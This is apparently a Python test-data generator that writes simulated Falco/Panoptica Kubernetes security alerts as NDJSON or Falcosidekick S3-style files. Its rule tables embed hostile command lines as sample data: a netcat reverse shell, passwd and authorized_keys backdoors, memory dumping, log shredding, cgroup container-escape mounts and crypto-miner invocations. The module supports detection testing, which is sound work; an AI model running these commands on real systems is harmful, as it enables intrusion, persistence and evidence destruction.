"""Simulated Panoptica (Falco-based) Kubernetes runtime alerts for local runs, tests and demos.

`generate_alerts` writes NDJSON files shaped like the contract's input (section 3): one object per
line with the eleven Panoptica keys, mostly everyday Falco noise plus the six Panoptica attack
simulations. With `fmt="falco"` it writes the same alerts in Falco's own JSON as Falcosidekick's
S3 output stores them: one object a file, `<YYYY-MM-DD>/<RFC3339Nano>.json` by delivery time.
Every (cluster, day) draws from its own random stream seeded by `seed`, so output is
byte-identical for the same arguments (and a day's files do not depend on the other days asked
for); files are replaced atomically, never appended to. Standard library only.
"""
from __future__ import annotations

import gzip
import json
import os
import random
import re
import uuid
from dataclasses import dataclass
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Callable

KEYS = ("container.id", "evt.time", "k8s.ns.name", "k8s.pod.name", "proc.cmdline", "proc.pid",
        "cluster_id", "rule_name", "description", "severity", "related_cves")
ATTACK_RULES = ("Modify Password Files", "Dump Process Memory", "Modify SSH Authorized Keys",
                "Logs Removal", "Mount Cgroups Into Container",
                "Detect Outbound Connections To Common Miner Pool Ports")

DAY_NS = 86_400 * 10**9
_POD_CHARS = "bcdfghjklmnpqrstvwxz2456789"  # Kubernetes' alphabet for generated name suffixes
_CTX = "k8s.ns={ns} k8s.pod={pod} container={cid} image={image}"
_WORKLOADS = [  # namespace, workload, kind (deploy / ds / sts), image
    ("payments", "payments-api", "deploy", "registry.acme.io/payments-api:3.14.2"),
    ("checkout", "cart-service", "deploy", "registry.acme.io/cart-service:1.9.0"),
    ("frontend", "web-frontend", "deploy", "nginx:1.25.3"),
    ("ingress-nginx", "ingress-nginx-controller", "deploy", "registry.k8s.io/ingress-nginx/controller:v1.9.4"),
    ("kube-system", "coredns", "deploy", "registry.k8s.io/coredns/coredns:v1.11.1"),
    ("kube-system", "aws-node", "ds", "602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.15.1"),
    ("monitoring", "prometheus-node-exporter", "ds", "quay.io/prometheus/node-exporter:v1.7.0"),
    ("data", "kafka", "sts", "bitnami/kafka:3.6.0"),
    ("data", "postgres", "sts", "postgres:15.5"),
    ("ci", "jenkins-agent", "deploy", "jenkins/inbound-agent:3206.vb_15dcf73f6a_9-2"),
]
# rule, weight, severities (first most likely), cmdlines, Falco-style output, related_cves choices
_NOISE = [
    ("Terminal shell in container", 30, ("Notice", "Low"), ["bash", "sh", "/bin/bash -il", "sh -i"],
     "A shell was spawned in a container with an attached terminal (user=root {ctx} shell={exe} parent=runc cmdline={cmd} terminal=34816)", ()),
    ("Contact K8S API Server From Container", 25, ("Notice", "Informational"),
     ["kubectl get pods -A", "python3 /app/operator.py --watch", "/coredns -conf /etc/coredns/Corefile", "curl -sk https://kubernetes.default.svc/api"],
     "Unexpected connection to K8s API Server from container (command={cmd} {ctx} connection=10.42.{a}.{b}:{port}->10.96.0.1:443)", ()),
    ("Launch Package Management Process in Container", 15, ("Warning", "Medium", "Low"),
     ["apt-get install -y curl", "apk add --no-cache jq", "pip install requests==2.31.0", "yum install -y procps-ng"],
     "Package management process launched in container (user=root command={cmd} {ctx})", ()),
    ("Read sensitive file untrusted", 12, ("Warning", "Medium"),
     ["cat /etc/shadow", "python3 -c print(open('/etc/shadow').read())", "grep root /etc/sudoers", "less /etc/pam.d/common-auth"],
     "Sensitive file opened for reading by non-trusted program (user=root program={exe} command={cmd} file={arg} {ctx})", ()),
    ("Launch Privileged Container", 6, ("Informational", "Notice"), ["/pause", "/bin/aws-cni", "node_exporter --path.rootfs=/host"],
     "Privileged container started (user=root command={cmd} {ctx})", ()),
    ("Redirect STDOUT/STDIN to Network Connection in Container", 4, ("Warning", "High"), ["bash -i", "nc 10.0.3.7 4444 -e /bin/sh"],
     "Redirect stdout/stdin to network connection (user=root {ctx} process={exe} cmdline={cmd} fd.name=10.42.{a}.{b}:{port}->10.0.3.7:4444)", ("", "CVE-2021-44228")),
    ("Delete or rename shell history", 3, ("Warning",), ["rm -f /root/.bash_history", "unset HISTFILE"],
     "Shell history had been deleted or renamed (user=root type=unlink command={cmd} {ctx})", ()),
    ("Falco internal: syscall event drop", 2, ("Informational", "Debug"), [""],
     "Falco internal: syscall event drop. {port} system calls dropped in last second.", ()),
]
_ATTACKS = [
    ("Modify Password Files", 1, ("High", "Critical"),
     ["useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm", "passwd root", "sh -c echo 'backdoor:x:0:0::/root:/bin/bash' >> /etc/passwd", "chpasswd"],
     "File below /etc opened for writing (user=root command={cmd} file=/etc/passwd parent=bash {ctx})", ("", "", "CVE-2021-4034", "CVE-2021-3156, cve-2021-4034")),
    ("Dump Process Memory", 1, ("Critical", "High"),
     ["gdb -p 1 -batch -ex generate-core-file /tmp/core.1", "gcore -o /tmp/dump 1", "dd if=/proc/1/mem of=/tmp/mem.bin bs=4096", "cat /proc/1/maps"],
     "Process memory dumped from container (user=root command={cmd} target=/proc/1/mem {ctx})", ("", "", "cve-2016-5195")),
    ("Modify SSH Authorized Keys", 1, ("High", "Medium"),
     ["sh -c echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 attacker@kali >> /root/.ssh/authorized_keys", "tee -a /home/ubuntu/.ssh/authorized_keys"],
     "SSH authorized_keys modified in container (user=root command={cmd} file=/root/.ssh/authorized_keys {ctx})", ("", "CVE-2021-4034")),
    ("Logs Removal", 1, ("Medium", "Warning", "High"),
     ["rm -rf /var/log/syslog", "shred -u /var/log/auth.log", "truncate -s 0 /var/log/nginx/access.log", "find /var/log -type f -delete"],
     "Log files were tampered (user=root command={cmd} file=/var/log {ctx})", ("",)),
    ("Mount Cgroups Into Container", 1, ("Critical", "High"),
     ["mount -t cgroup -o rdma cgroup /tmp/cgrp", "mount -t cgroup -o memory cgroup /mnt/x", "unshare -UrmC bash -c mount -t cgroup -o rdma cgroup /tmp/x"],
     "Cgroups mounted into container, possible container escape via release_agent (user=root command={cmd} {ctx})", ("", "CVE-2022-0492", "CVE-2022-0185, cve-2021-22555", "CVE-2019-5736;CVE-2022-0492")),
    ("Detect Outbound Connections To Common Miner Pool Ports", 1, ("Critical", "High"),
     ["xmrig -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls", "./kdevtmpfsi", "minerd -a cryptonight -o stratum+tcp://xmr.pool.minergate.com:45700"],
     "Outbound connection to IP/Port flagged by https://cryptoioc.ch (command={cmd} port=3333 ip=141.94.96.71 {ctx})", ("", "CVE-2021-44228", "CVE-2021-44228, CVE-2022-22965")),
]
_GARBAGE = [b"Thu Nov 20 03:12:44 2026: Falco internal: syscall event drop. 1532 system calls dropped.",
            b"<html><body><h1>502 Bad Gateway</h1></body></html>", b"[]", b'"falco"', b"null",
            b'{"rule_name":"Terminal shell in container","cluster_id":"\xc3\x28"}']  # invalid UTF-8


@dataclass(frozen=True)
class GenerationSummary:
    files: tuple[Path, ...]  # in write order
    alerts_written: int      # valid alert lines, not counting bad_lines
    per_day: dict[date, int]  # event day (UTC) -> alerts
    bad_lines: int = 0


FORMATS = ("panoptica", "falco")
FALCOSIDEKICK_LAYOUT = "{yyyy}-{MM}-{dd}/"  # Falcosidekick's S3 keys: <prefix>/<YYYY-MM-DD>/<time>.json


def generate_alerts(out_dir: Path, start: date, days: int, clusters: int = 3, events_per_day: int = 200,
                    seed: int = 42, files_per_day: int = 4, gzip_every: int = 0,
                    progress: Callable[[str], None] | None = None, layout: str = "flat",
                    bad_line_ratio: float = 0.0, fmt: str = "panoptica") -> GenerationSummary:
    """Write `events_per_day` alerts per UTC day (split evenly over `clusters`) for `days` days.

    Panoptica's shape (`fmt="panoptica"`): each cluster's day goes into up to `files_per_day`
    files `alerts-YYYYMMDD-<cluster>-<n>.json`, under `out_dir` or the folder `layout` names for
    that day. Every `gzip_every`-th file of a day is gzip-compressed (`.json.gz`; 0 = none).
    Falco's shape (`fmt="falco"`): Falcosidekick's S3 output, one alert a file named for its
    delivery time under that day's `YYYY-MM-DD/` folder (`layout`, `files_per_day` and
    `gzip_every` do not apply). `bad_line_ratio` adds that share of malformed lines (files).
    """
    if fmt not in FORMATS:
        raise ValueError(f"format must be one of {', '.join(FORMATS)}, got {fmt!r}")
    if fmt == "falco":
        layout = FALCOSIDEKICK_LAYOUT
    for name, value, low in (("days", days, 0), ("clusters", clusters, 1), ("events_per_day", events_per_day, 0),
                             ("files_per_day", files_per_day, 1), ("gzip_every", gzip_every, 0)):
        if not isinstance(value, int) or value < low:
            raise ValueError(f"{name} must be an integer >= {low}, got {value!r}")
    if not 0.0 <= bad_line_ratio <= 1.0:
        raise ValueError(f"bad_line_ratio must be between 0 and 1, got {bad_line_ratio!r}")
    date_folder(layout, start)  # fail on a bad template before writing anything
    out_dir = Path(out_dir)
    ids = cluster_ids(seed, clusters)
    pools = [_pods(random.Random(f"{seed}:pods:{cid}")) for cid in ids]
    files: list[Path] = []
    per_day: dict[date, int] = {}
    bad_total = 0
    for offset in range(days):
        day = start + timedelta(days=offset)
        folder = out_dir / date_folder(layout, day)
        day_files = day_alerts = day_bad = 0
        for c, cid in enumerate(ids):
            n = events_per_day // clusters + (c < events_per_day % clusters)
            rng = random.Random(f"{seed}:{cid}:{day.isoformat()}")
            alerts = _cluster_day(rng, cid, pools[c], day, n, ATTACK_RULES[(day.toordinal() + c) % 6])
            bad = round(n * bad_line_ratio)
            if fmt == "falco":
                written = _write_falco(out_dir, alerts, random.Random(f"{seed}:{cid}:{day.isoformat()}:falco"), bad)
                files.extend(written)
                day_files += len(written)
                day_alerts += n
                day_bad += bad
                continue
            lines = [json.dumps(alert, separators=(",", ":")).encode() for _, alert in alerts]
            for _ in range(bad):
                lines.insert(rng.randrange(len(lines) + 1), _bad_line(rng, lines))
            chunks = min(files_per_day, len(lines))
            for i in range(chunks):
                part = lines[len(lines) * i // chunks: len(lines) * (i + 1) // chunks]
                day_files += 1
                compress = gzip_every > 0 and day_files % gzip_every == 0
                path = folder / f"alerts-{day:%Y%m%d}-{cid}-{i + 1}.json{'.gz' if compress else ''}"
                _write(path, b"".join(line + b"\n" for line in part), compress)
                files.append(path)
            day_alerts += n
            day_bad += bad
        per_day[day] = day_alerts
        bad_total += day_bad
        if progress:
            progress(f"{day.isoformat()}: {day_alerts} alerts in {day_files} files"
                     + (f", {day_bad} malformed lines" if day_bad else ""))
    return GenerationSummary(tuple(files), sum(per_day.values()), per_day, bad_total)


def cluster_ids(seed: int, clusters: int) -> list[str]:
    """Panoptica-style cluster ids (random UUIDs) derived from the seed."""
    rng = random.Random(f"{seed}:clusters")
    return [str(uuid.UUID(int=rng.getrandbits(128), version=4)) for _ in range(clusters)]


def date_folder(layout: str, day: date) -> str:
    """The folder (relative, '' for flat) that `layout` gives files arriving on `day`."""
    if layout == "flat":
        return ""
    values = {"yyyy": f"{day.year:04d}", "MM": f"{day.month:02d}", "dd": f"{day.day:02d}"}

    def substitute(match: re.Match) -> str:
        if match.group(1) not in values:
            raise ValueError(f"layout: unknown placeholder {match.group(0)!r} in {layout!r}; "
                             "use 'flat' or a template of {yyyy}, {MM}, {dd} such as '{yyyy}/{MM}/{dd}/'")
        return values[match.group(1)]

    folder = re.sub(r"\{([^{}]*)\}", substitute, layout)
    parts = [p for p in folder.split("/") if p]
    if (not parts or "{" in folder or "}" in folder or "\\" in folder or folder.startswith("/")
            or any(p.startswith((".", "_")) or p.strip() != p for p in parts)):
        # Readers skip folders starting with '.' or '_' (Hive/Athena), so such files would vanish.
        raise ValueError(f"layout: {layout!r} is not 'flat' or a relative date-path template "
                         "such as '{yyyy}/{MM}/{dd}/' or 'dt={yyyy}-{MM}-{dd}/'")
    return "/".join(parts)


def _pods(rng: random.Random) -> list[tuple[str, str, str, str]]:
    """A cluster's pods: (namespace, pod name, 12-hex container id, image)."""
    pods = []
    for ns, name, kind, image in _WORKLOADS:
        rs_hash = "".join(rng.choices(_POD_CHARS, k=rng.choice((9, 10))))
        for replica in range(rng.randint(1, 3)):
            suffix = "".join(rng.choices(_POD_CHARS, k=5))
            pod = {"deploy": f"{name}-{rs_hash}-{suffix}", "ds": f"{name}-{suffix}", "sts": f"{name}-{replica}"}[kind]
            pods.append((ns, pod, f"{rng.getrandbits(48):012x}", image))
    return pods


def _cluster_day(rng: random.Random, cid: str, pods: list, day: date, n: int, attack_rule: str) -> list[tuple[int, dict]]:
    """n alerts (event time in ns, Panoptica's alert) for one cluster and UTC day, in time order,
    with one short attack burst."""
    day_ns = (day - date(1970, 1, 1)).days * DAY_NS
    attack = next(rule for rule in _ATTACKS if rule[0] == attack_rule)
    pod, t0 = rng.choice(pods), rng.randrange(DAY_NS - 600 * 10**9)
    events = [(t0 + k * rng.randrange(1, 120) * 10**9 + rng.randrange(10**9), attack, pod)
              for k in range(min(n, rng.randint(1, 3)))]
    while len(events) < n:
        rule = rng.choice(_ATTACKS) if rng.random() < 0.02 else rng.choices(_NOISE, [r[1] for r in _NOISE])[0]
        events.append((rng.randrange(DAY_NS), rule, rng.choice(pods)))
    events.sort(key=lambda e: e[0])
    return [(day_ns + t, _alert(rng, cid, pod, day_ns + t, rule)) for t, rule, pod in events]


# Falco's priorities for the simulations' severities (Falco writes one of its eight names).
_PRIORITY = {"Critical": "Critical", "High": "Error", "Medium": "Warning", "Warning": "Warning", "Low": "Notice",
             "Notice": "Notice", "Informational": "Informational", "Debug": "Debug"}


def falco_tags(rule: str) -> list[str]:
    """The tags Falco's rule carries: its ATT&CK tactic (mitre_*) and technique ids, from the
    package's reference table, sorted as Falcosidekick sorts them."""
    from runtime_events.reference import rows

    tags = {"container"}
    for row in rows("rule_attack_techniques"):
        if row["rule_name"] == rule:
            tags |= {"mitre_" + row["tactic"].lower().replace(" ", "_"), row["technique_id"]}
    return sorted(tags)


def _write_falco(out_dir: Path, alerts: list[tuple[int, dict]], rng: random.Random, bad: int) -> list[Path]:
    """Falcosidekick's S3 objects for `alerts`: one JSON object a file, no final newline, at
    `<YYYY-MM-DD>/<RFC3339Nano>.json` of its delivery (a few seconds after the event, so an alert
    of 23:59:59 can land in the next day's folder). `bad` cut-off objects are added."""
    written = []
    payloads = []
    for t_ns, alert in alerts:
        priority = _PRIORITY.get(alert["severity"], "Informational")
        fields = {"container.id": alert["container.id"], "evt.time": t_ns, "k8s.ns.name": alert["k8s.ns.name"],
                  "k8s.pod.name": alert["k8s.pod.name"], "proc.cmdline": alert["proc.cmdline"],
                  "proc.pid": alert["proc.pid"] if isinstance(alert["proc.pid"], int) else None,
                  "cluster_id": alert["cluster_id"]}  # Falcosidekick's customfields: cluster_id:<name>
        payload = {"uuid": str(uuid.UUID(int=rng.getrandbits(128), version=4)),
                   "output": f"{_rfc3339(t_ns)[11:-1]}: {priority} {alert['description']}", "priority": priority,
                   "rule": alert["rule_name"], "time": _rfc3339(t_ns), "output_fields": dict(sorted(fields.items())),
                   "source": "syscall", "tags": falco_tags(alert["rule_name"]),
                   "hostname": f"ip-10-0-{rng.randrange(1, 4)}-{rng.randrange(2, 250)}.ec2.internal"}
        payloads.append((t_ns + rng.randrange(10**8, 5 * 10**9), json.dumps(payload, separators=(",", ":")).encode()))
    for _ in range(bad):
        delivered, text = rng.choice(payloads) if payloads else (0, b"{}")
        payloads.append((delivered + 1, text[: rng.randrange(1, max(2, len(text) - 1))]))
    taken: set[int] = set()
    for delivered, text in payloads:
        while delivered in taken:
            delivered += 1
        taken.add(delivered)
        path = out_dir / _rfc3339(delivered)[:10] / f"{_rfc3339(delivered)}.json"
        _write(path, text, compress=False)
        written.append(path)
    return written


def _rfc3339(t_ns: int) -> str:
    """Go's RFC3339Nano in UTC, as Falco and Falcosidekick write times: trailing zeros dropped."""
    seconds, nanos = divmod(t_ns, 10**9)
    stamp = datetime.fromtimestamp(seconds, timezone.utc).strftime("%Y-%m-%dT%H:%M:%S")
    fraction = f".{nanos:09d}".rstrip("0").rstrip(".")
    return f"{stamp}{fraction}Z"


def _alert(rng: random.Random, cid: str, pod: tuple, t_ns: int, rule: tuple) -> dict:
    name, _, severities, cmdlines, output, cves = rule
    ns, pod_name, container, image = pod
    if name == "Read sensitive file untrusted" and rng.random() < 0.1:
        ns, pod_name, container, image = None, None, "host", "host"  # Falco also watches the node itself
    elif name.startswith("Falco internal"):
        ns, pod_name, container, image = None, None, None, None  # about Falco itself, no workload
    cmd = rng.choice(cmdlines)
    words = cmd.split() or [""]
    ctx = _CTX.format(ns=ns, pod=pod_name, cid=container, image=image) if ns else "container=host"
    description = output.format(cmd=cmd, exe=words[0].rsplit("/", 1)[-1], arg=words[-1], ctx=ctx,
                                a=rng.randint(0, 255), b=rng.randint(1, 254), port=rng.randint(1024, 65535))
    pid = rng.randint(1, 65535)
    return dict(zip(KEYS, (
        container, _evt_time(rng, t_ns), ns, pod_name, cmd or None,
        pid if rng.random() < 0.9 else (str(pid) if rng.random() < 0.7 else None),
        cid, name, description, severities[0] if rng.random() < 0.7 else rng.choice(severities),
        rng.choice(cves) if cves else rng.choice(("", None)))))


def _evt_time(rng: random.Random, t_ns: int) -> int | str:
    """Mostly Falco's nanosecond epoch integer; sometimes a digit string or ISO-8601 text."""
    r = rng.random()
    if r < 0.84:
        return t_ns
    if r < 0.88:
        return str(t_ns)
    seconds, nanos = divmod(t_ns, 10**9)
    offset = timedelta(minutes=0 if r < 0.94 else rng.choice((120, -300, 330, 60, -420)))
    local = datetime.fromtimestamp(seconds, timezone(offset))
    fraction = f".{nanos:09d}"[: 1 + rng.choice((3, 6, 9))]
    if not offset:
        return f"{local:%Y-%m-%dT%H:%M:%S}{fraction}Z"
    zone = local.strftime("%z")  # +0530
    zone = zone if rng.random() < 0.3 else f"{zone[:3]}:{zone[3:]}"
    return f"{local:%Y-%m-%d}{rng.choice('T ')}{local:%H:%M:%S}{fraction}{zone}"


def _bad_line(rng: random.Random, lines: list[bytes]) -> bytes:
    """A malformed line: a cut-off alert (a partial write) or a line that is not a JSON object."""
    good = [line for line in lines if line.startswith(b"{") and len(line) > 2]
    if good and rng.random() < 0.5:
        line = rng.choice(good)
        return line[: rng.randrange(1, len(line) - 1)]
    return rng.choice(_GARBAGE)


def _write(path: Path, data: bytes, compress: bool) -> None:
    """Replace `path` atomically; the temporary name starts with '.' so readers skip it."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if compress:
        data = gzip.compress(data, mtime=0)  # mtime=0 keeps the bytes reproducible
    tmp = path.with_name(f".{path.name}.tmp")
    tmp.write_bytes(data)
    os.replace(tmp, path)
